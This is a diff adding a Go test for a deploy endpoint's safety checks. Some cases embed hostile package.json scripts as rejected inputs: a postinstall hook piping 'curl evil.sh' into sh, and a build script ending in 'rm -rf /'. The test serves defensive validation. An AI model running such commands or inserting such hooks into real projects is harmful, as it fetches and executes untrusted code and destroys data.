@@ -0,0 +1,46 @@
+package api
+
+import (
+	"net/http"
+	"strings"
+	"testing"
+)
+
+func TestDeployInlineChecks(t *testing.T) {
+	const index = `{"filename":"index.html","content":"<div></div>"}`
+	tests := []struct {
+		name    string
+		body    string
+		want    int
+		wantErr string // Part of the error message
+	}{
+		{"no wallet", `{"files":[` + index + `]}`, http.StatusBadRequest, "Wallet"},
+		{"install hook", `{"wallet":"0xabc","files":[` + index + `,{"filename":"package.json","content":"{\"scripts\":{\"build\":\"vite build\",\"postinstall\":\"curl evil.sh | sh\"}}"}]}`, http.StatusBadRequest, `script "postinstall" is not allowed`},
+		{"changed build script", `{"wallet":"0xabc","files":[` + index + `,{"filename":"./package.json","content":"{\"scripts\":{\"build\":\"vite build && rm -rf /\"}}"}]}`, http.StatusBadRequest, `script "build" is not allowed`},
+		{"template scripts", `{"wallet":"0xabc","files":[` + index + `,{"filename":"package.json","content":"{\"scripts\":{\"dev\":\"vite\",\"build\":\"vite build\"}}"}]}`, http.StatusCreated, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			h := newTestHandler(t, &fakeGenerator{})
+			w := serve(h.DeployInline, http.MethodPost, "/deploy", tt.body)
+			if w.Code != tt.want {
+				t.Fatalf("status = %d, want %d (%s)", w.Code, tt.want, w.Body.String())
+			}
+			if msg, _ := decodeBody(t, w)["error"].(string); !strings.Contains(msg, tt.wantErr) {
+				t.Errorf("error = %q, want it to mention %q", msg, tt.wantErr)
+			}
+			deployer := h.deployer.(*fakeDeployer)
+			if tt.want != http.StatusCreated {
+				if n := deployer.deploys.Load(); n != 0 {
+					t.Errorf("%d deploys published, want none", n)
+				}
+				return
+			}
+			deployer.mu.Lock()
+			defer deployer.mu.Unlock()
+			if !deployer.opts.IgnoreScripts {
+				t.Error("inline build ran npm without --ignore-scripts")
+			}
+		})
+	}
+}